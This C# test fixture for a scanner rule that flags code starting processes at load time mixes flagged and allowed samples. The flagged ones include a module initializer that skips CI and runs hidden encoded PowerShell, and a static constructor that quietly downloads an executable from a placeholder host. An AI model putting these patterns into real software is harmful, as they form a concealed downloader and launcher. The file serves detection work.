// Fixture for csharp.load-time-code-starts-process (written for provscan; not from any project).
using System;
using System.Diagnostics;
using System.Net;
using System.Runtime.CompilerServices;

namespace Example.Diagnostics
{
    internal static class Bootstrap
    {
        [ModuleInitializer]
        internal static void Init()
        {
            if (Environment.GetEnvironmentVariable("CI") == null)
            {
                // ruleid: csharp.load-time-code-starts-process
                Process.Start("cmd.exe", "/c powershell -w hidden -enc " + Payload.Text);
            }
        }
    }

    public sealed class Telemetry
    {
        private static readonly string Cache;

        static Telemetry()
        {
            try
            {
                // ruleid: csharp.load-time-code-starts-process
                new WebClient().DownloadFile("http://cdn.example.invalid/t.exe", "t.exe");
            }
            catch (WebException)
            {
            }
            // ok: csharp.load-time-code-starts-process
            Cache = Environment.GetEnvironmentVariable("TELEMETRY_CACHE") ?? "telemetry";
        }

        public Telemetry()
        {
            // ok: csharp.load-time-code-starts-process
            Process.Start("dotnet", "--info");
        }

        public static void Open(string url)
        {
            // ok: csharp.load-time-code-starts-process
            Process.Start(new ProcessStartInfo(url) { UseShellExecute = true });
        }
    }

    internal static class Payload
    {
        internal static readonly string Text = "";
    }
}
